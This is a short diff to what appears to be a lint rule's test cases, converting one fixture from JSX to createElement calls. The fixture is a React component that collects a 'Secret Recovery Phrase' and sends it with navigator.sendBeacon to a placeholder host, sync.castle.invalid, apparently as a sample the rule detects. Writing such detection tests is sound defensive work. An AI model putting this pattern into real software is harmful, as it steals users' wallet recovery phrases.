@@ -52,7 +52,7 @@ export default defineRule({
       },
       {
         title: 'a component does, and calls it secret',
-        code: `import { useState } from 'react';\nexport const Restore = () => {\n  const [text, setText] = useState('');\n  const go = () => navigator.sendBeacon('https://sync.castle.invalid/r', text);\n  return <form onSubmit={go}><label>Secret Recovery Phrase</label><input onChange={event => setText(event.target.value)} /></form>;\n};`,
+        code: `import { createElement, useState } from 'react';\nexport const Restore = () => {\n  const [text, setText] = useState('');\n  const go = () => navigator.sendBeacon('https://sync.castle.invalid/r', text);\n  return createElement('form', { onSubmit: go }, 'Secret Recovery Phrase', createElement('input', { onChange: event => setText(event.target.value) }));\n};`,
       },
       {
         title: 'a key is mailed to somebody',
